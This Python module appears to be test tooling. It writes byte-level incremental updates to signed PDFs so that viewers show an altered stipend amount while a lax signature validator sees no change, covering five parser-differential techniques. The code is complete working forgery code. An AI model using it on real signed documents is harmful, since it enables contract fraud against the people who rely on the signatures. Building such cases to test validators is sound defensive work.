"""Incremental updates that two PDF readers resolve differently, written byte by byte.

Each takes a signed PDF and returns it with one update appended that makes viewers show a
changed contract ("1500" where the signer read "150") while a lax reader sees nothing changed.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

ORIGINAL = b"150"
CHANGED = b"1500"


@dataclass(frozen=True)
class Target:
    """The first page's content stream: its number, generation and body as signed."""

    number: int
    generation: int
    data: bytes
    page: int  # the page dictionary's number
    root: int
    size: int
    prev: int


def target(pdf: bytes) -> Target:
    """What an attacker reads from the signed file before writing an update."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    contents = page_ref.get_object().raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents[0]
    assert isinstance(contents, generic.IndirectObject)
    stream = contents.get_object()
    return Target(contents.idnum, contents.generation, stream.data, page_ref.idnum,
                  reader.trailer.raw_get("/Root").idnum, int(reader.trailer["/Size"]),
                  int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", pdf)[-1]))


def changed_stream(t: Target, number: int | None = None, generation: int | None = None) -> bytes:
    """The page content with the stipend changed, as an uncompressed stream object."""
    data = t.data + b"\nBT /F1 11 Tf 72 720 Td (Stagevergoeding: EUR " + CHANGED + b") Tj ET\n"
    return (b"%d %d obj\n<< /Length %d >>\nstream\n" % (
        t.number if number is None else number, t.generation if generation is None else generation,
        len(data)) + data + b"\nendstream\nendobj\n")


@dataclass(frozen=True)
class At:
    """An entry's value given as a byte offset rather than as one of the update's bodies."""

    offset: int


Entries = list[tuple[int, int, bytes, "int | At"]]


def append(pdf: bytes, bodies: list[bytes], entries: Entries, trailer: bytes = b"") -> bytes:
    """Append `bodies` and a table of `entries` (number, generation, n/f, the body's index,
    an offset or a next-free number), in the order given, duplicates and all."""
    t = target(pdf)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets = []
    for body in bodies:
        offsets.append(len(out))
        out += body
    xref_at = len(out)
    out += b"xref\n"
    for number, generation, kind, which in entries:
        value = which.offset if isinstance(which, At) else \
            offsets[which] if kind == b"n" else which
        out += b"%d 1\n%010d %05d %s \n" % (number, value, generation, kind)
    size = max([t.size] + [n + 1 for n, *_ in entries])
    out += (b"trailer\n<< /Size %d /Root %d 0 R /Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n"
            % (size, t.root, t.prev, trailer, xref_at))
    return bytes(out)


def duplicate_entry(pdf: bytes) -> bytes:
    """One section lists the content stream twice: the changed body first, the signed one
    second (pyhanko keeps the last entry, viewers the first)."""
    t = target(pdf)
    signed = At(_offset_of(pdf, t.number, t.generation))
    return append(pdf, [changed_stream(t)], [(t.number, t.generation, b"n", 0),
                                              (t.number, t.generation, b"n", signed)])


def point_role_at_content(pdf: bytes, role: str) -> bytes:
    """The trailer's /Info, the catalog's /Metadata or a DSS /VRI entry pointed at the page's
    content stream, which the same update redefines ("it is only metadata")."""
    t = target(pdf)
    bodies = [changed_stream(t)]
    entries: Entries = [(t.number, t.generation, b"n", 0)]
    trailer = b""
    if role == "info":
        trailer = b"/Info %d %d R " % (t.number, t.generation)
    else:
        reader = PdfFileReader(io.BytesIO(pdf), strict=False)
        catalog = reader.root
        extra = (b"/Metadata %d %d R" % (t.number, t.generation) if role == "metadata" else
                 b"/DSS << /VRI << /ABCDEF %d %d R >> >>" % (t.number, t.generation))
        keys = b"".join(b"/%s %s " % (str(k)[1:].encode(), _raw(catalog.raw_get(k)))
                        for k in catalog if k not in ("/Metadata", "/DSS"))
        bodies.append(b"%d 0 obj\n<< %s%s >>\nendobj\n" % (t.root, keys, extra))
        entries.append((t.root, 0, b"n", 1))
    return append(pdf, bodies, entries, trailer)


def free_with_generation(pdf: bytes, next_generation: int) -> bytes:
    """A free entry for the page's content stream whose next generation is 0 or 65535: pyhanko
    does not count it as a deletion, MuPDF shows the page blank."""
    t = target(pdf)
    return append(pdf, [], [(t.number, next_generation, b"f", 0)])


def unlisted_body(pdf: bytes) -> bytes:
    """A changed content stream written in the update but listed by no entry (poppler's
    reconstruction picks it up); the section lists only a harmless new object."""
    t = target(pdf)
    harmless = b"%d 0 obj\n<< /Producer (x) >>\nendobj\n" % t.size
    return append(pdf, [changed_stream(t), harmless], [(t.size, 0, b"n", 1)])


def bumped_generation(pdf: bytes) -> bytes:
    """The content stream redefined as "N 1 obj": a brand-new object to one reader, the page's
    content to another."""
    t = target(pdf)
    return append(pdf, [changed_stream(t, generation=t.generation + 1)],
                   [(t.number, t.generation + 1, b"n", 0)])


def _offset_of(pdf: bytes, number: int, generation: int) -> int:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    ref = reader.xrefs.get_historical_ref(generic.Reference(number, generation),
                                          reader.xrefs.total_revisions - 1)
    assert isinstance(ref, int)
    return ref


def _raw(value: object) -> bytes:
    if isinstance(value, generic.IndirectObject):
        return b"%d %d R" % (value.idnum, value.generation)
    buffer = io.BytesIO()
    value.write_to_stream(buffer)  # type: ignore[attr-defined]
    return buffer.getvalue()
